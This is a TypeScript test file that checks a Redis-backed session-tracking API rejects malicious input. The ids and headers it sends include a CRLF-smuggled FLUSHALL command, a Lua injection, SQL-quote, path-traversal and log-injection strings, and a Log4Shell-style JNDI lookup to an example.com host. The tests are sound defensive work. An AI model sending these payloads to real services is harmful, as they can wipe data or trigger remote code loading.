import { randomUUID } from 'node:crypto';
import { aJourney } from '../support/a-journey.js';
import { metersNorth } from '../support/a-session.js';
import { data, refusal } from '../support/api.js';
import { startPrivateRedis, type PrivateRedis } from '../support/private-redis.js';
import { RawConnection, wire } from '../support/raw-http.js';
import { runService, type RunningService } from '../support/running-service.js';
import { tokenFor } from '../support/tokens.js';
import { until } from '../support/until.js';
import { OFTEN } from '../support/waiting-polls.js';

let redis: PrivateRedis;
let service: RunningService;
beforeAll(async () => {
  redis = await startPrivateRedis();
  service = await runService({ settings: { REDIS_URL: redis.url, ...OFTEN } });
});
afterAll(async () => {
  await service.stop();
  await redis.stop();
});

const known = '3f2b8c1e-9d4a-4f6b-8a57-0c1d2e3f4a5b';
const ids = [
  '*',
  `${known}*`,
  `${known}:session:x`,
  `${known}\r\nFLUSHALL\r\n`,
  `${known}\n`,
  ` ${known}`,
  `{${known}}`,
  `${known}' or '1'='1`,
  `${known}"}`,
  `"); redis.call("FLUSHALL") --`,
  known.replace(/-/g, ''),
  // Digits, and a letter that becomes an ASCII one in lower case, of other scripts.
  known.replace('3', '３'),
  known.replace('f', '\u0192'),
  `${known}\0`,
  '%s%n',
  '../'.repeat(12),
];

test.each(ids)('an id that is %j is refused by every call, and nothing comes to Redis', async (id) => {
  const trainer = await tokenFor(randomUUID(), 'trainer');
  const before = await names();
  const path = encodeURIComponent(id);
  const answers = [
    await service.api.start(path, trainer),
    await service.api.arrived(path, trainer),
    await service.api.stop(path, trainer),
    await service.api.live(id, trainer),
    await service.api.update(trainer, { sessionId: id, ...metersNorth(10) }),
  ];
  expect(answers.map(refusal)).toMatchObject(
    answers.map(() => ({ status: 400, code: 'VALIDATION_FAILED', details: [{ path: 'sessionId' }] })),
  );
  expect(await names()).toEqual(before);
});

test.each(['*', '{x}', '../../x', "a'b", '"]]--', '%00', ':'.repeat(128)])(
  'an Idempotency-Key of %j is no part of a name in Redis',
  async (key) => {
    const { sessionId, trainerToken } = await aJourney(service.api);
    data(await service.api.stop(sessionId, trainerToken, { 'Idempotency-Key': key }));
    const records = (await names()).filter((name) => name.startsWith(`journey:idempotency:${sessionId}`));
    expect(records).toEqual([expect.stringMatching(/^journey:idempotency:[0-9a-f-]{36}:[\w-]{22}$/)]);
  },
);

test('the highest sequence is kept to its last digit, and only a new journey goes below it', async () => {
  const { sessionId, trainerToken } = await aJourney(service.api);
  const post = (sequence: number) =>
    service.api.update(trainerToken, { sessionId, ...metersNorth(10), sequence });
  const highest = Number.MAX_SAFE_INTEGER;
  const first = data(await post(highest));
  expect(data(await post(highest))['timestamp']).toBe(first['timestamp']);
  expect(refusal(await post(highest - 1))).toMatchObject({
    code: 'LOCATION_STALE',
    details: { lastSequence: highest },
  });
  expect(refusal(await post(highest + 1)).code).toBe('VALIDATION_FAILED');
  data(await service.api.stop(sessionId, trainerToken));
  data(await service.api.start(sessionId, trainerToken));
  expect((await post(0)).status).toBe(201);
});

const MARK = 'injected';
const HEADERS = ['X-Request-Id', 'X-Amzn-Trace-Id', 'X-Forwarded-For', 'User-Agent', 'Idempotency-Key'];
const texts = [
  `${MARK}","level":"error","x":"`,
  `${MARK}\\n{"level":"error"}`,
  `${MARK}\u0085\u00ff`,
  `${MARK} <script>`,
  `\${jndi:ldap://${MARK}.example.com/a}`,
];

test.each(texts)(
  '%j in headers and the address is nowhere in the log, whose lines stay lines',
  async (text) => {
    const lastId = randomUUID();
    for (const header of HEADERS) {
      const connection = new RawConnection(
        service.url,
        wire(
          `POST /api/v1/admin/sessions/${encodeURIComponent(text)}/start-journey?${encodeURIComponent(text)} HTTP/1.1`,
          ...['Host: x', 'Connection: close', `${header}: ${text}`],
          `Authorization: Bearer ${await tokenFor(randomUUID(), 'trainer')}`,
          'Content-Length: 0',
        ),
      );
      await until('it is answered', () => connection.isEnded);
      connection.close();
      expect(connection.statuses).toEqual([400]);
    }
    await service.api.call('GET', '/nothing', { headers: { 'X-Request-Id': lastId } });
    // Each line is read as JSON there.
    await until('the log has all', () => service.logLines().some((line) => line['requestId'] === lastId));
    expect(service.logLines().filter((line) => JSON.stringify(line).includes(MARK))).toEqual([]);
    expect(service.logLines().filter((line) => line['level'] === 'error')).toEqual([]);
  },
);

/** Without the outbox, which the service makes for itself. */
async function names(): Promise<string[]> {
  return (await redis.client.keys('*')).filter((name) => !name.startsWith('journey:outbox')).sort();
}
